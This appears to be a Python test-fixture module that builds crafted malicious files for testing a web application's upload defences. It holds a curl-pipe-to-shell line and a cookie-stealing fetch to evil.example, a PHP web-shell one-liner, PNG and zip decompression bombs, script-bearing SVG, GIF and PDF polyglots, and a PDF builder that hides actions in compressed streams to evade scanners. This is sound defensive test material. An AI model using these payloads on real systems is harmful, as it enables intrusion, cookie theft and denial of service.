"""Crafted files for the upload attack tests: each is built here, from bytes, so that the
test shows exactly what the attacker sends."""

import base64
import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.factories import png_bytes
from tests.tickets.helpers import HTML, image_bytes

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>\n"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"
JS = b"fetch('https://evil.example/?c=' + document.cookie);\n"


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind, data):
    """A valid PNG with one more chunk inserted right after IHDR."""
    png = png_bytes()
    ihdr_end = 8 + 4 + 4 + 13 + 4
    return png[:ihdr_end] + _chunk(kind, data) + png[ihdr_end:]


def png_header_only(width, height):
    """A few hundred bytes claiming a huge image: the decompression bomb's header."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    # One row's worth of compressed zeros: the rest would be decoded into memory.
    idat = zlib.compress(b"\x00" * (width + 1))
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def png_bomb():
    """A real bomb: a 20 KB file that decodes to 50 million pixels (50 MB of memory)."""
    width, height = 10_000, 5_000
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def apng_with_bad_frame_count():
    """A PNG whose animation chunk says 0 frames: Pillow opens it with a warning."""
    return png_with_chunk(b"acTL", struct.pack(">II", 0, 0))


def png_then_html():
    """The classic polyglot: a valid picture, with a web page after its end."""
    return png_bytes() + HTML


def png_with_html_text_chunk():
    return png_with_chunk(b"tEXt", b"Comment\x00" + HTML)


def gif_javascript_polyglot():
    """A GIF that is also a valid script: the width bytes open a /* comment that a comment
    block of the GIF closes, then runs code."""
    buffer = io.BytesIO()
    Image.new("P", (0x2A2F, 1), 0).save(buffer, format="GIF", comment=b"*/=alert(1);/*")
    data = buffer.getvalue()
    assert data[6:8] == b"/*"
    return data + b"*/"


def jpeg_with_html_comment():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, format="JPEG", comment=HTML)
    return buffer.getvalue()


def pdf_with_html():
    return b"%PDF-1.4\n" + HTML + b"%%EOF\n"


def pdf_with_javascript():
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        b"2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\ntrailer << /Root 1 0 R >>\n"
        b"%%EOF\n"
    )


def zip_with_declared_size(declared):
    """A small archive whose central directory declares `declared` bytes unpacked."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\x00" * 1000)
    data = bytearray(buffer.getvalue())
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, declared)
    return bytes(data)


def real_zip_bomb(unpacked=201 * 1024 * 1024):
    """A real bomb: a few hundred KB that unpack to just over the 200 MB limit."""
    buffer = io.BytesIO()
    block = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            for _ in range(unpacked // len(block)):
                member.write(block)
    return buffer.getvalue()


def zip_with_members(count):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"f{number}.txt", b"")
    return buffer.getvalue()


def zip_with_declared_count(count):
    """An archive of one member whose end record claims `count` members."""
    data = bytearray(zip_with_members(1))
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, count, count)
    return bytes(data)


def jpeg():
    return image_bytes("JPEG")


def pdf_document(action, *, compressed=False, filters=(b"FlateDecode",), extra_trailer=b""):
    """A one-page PDF that runs `action` (the bytes of a dictionary) when opened.

    Plain: the action is object 4 of the file, and a classic cross-reference table lists
    every object. `compressed`: object 4 sits in an object stream (object 5), packed with
    `filters` in order, and a cross-reference stream (object 6) points into it: PDF 1.5's
    layout, where the file's own bytes never show the action's names."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    if not compressed:
        objects[4] = action
        out, offsets = bytearray(header), {}
        for number, body in objects.items():
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        xref_at = len(out)
        out += b"xref\n0 5\n0000000000 65535 f \n"
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 5))
        out += b"trailer\n<< /Size 5 /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
            extra_trailer,
            xref_at,
        )
        return bytes(out)

    packed_objects = b"4 0 " + action
    first = len(b"4 0 ")
    data = packed_objects
    for name in reversed(filters):
        if name == b"FlateDecode":
            data = zlib.compress(data)
        elif name == b"ASCIIHexDecode":
            data = data.hex().encode() + b">"
        elif name == b"ASCII85Decode":
            data = base64.a85encode(data) + b"~>"
    filter_names = b"[" + b" ".join(b"/" + name for name in filters) + b"]"
    stream_dict = b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>" % (
        first,
        filter_names,
        len(data),
    )
    objects[5] = stream_dict + b"\nstream\n" + data + b"\nendstream"
    out, offsets = bytearray(header), {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0), struct.pack(">BIH", 1, offsets[5], 0)]
    rows += [struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R %s/Length %d >>\nstream\n" % (
        extra_trailer,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)
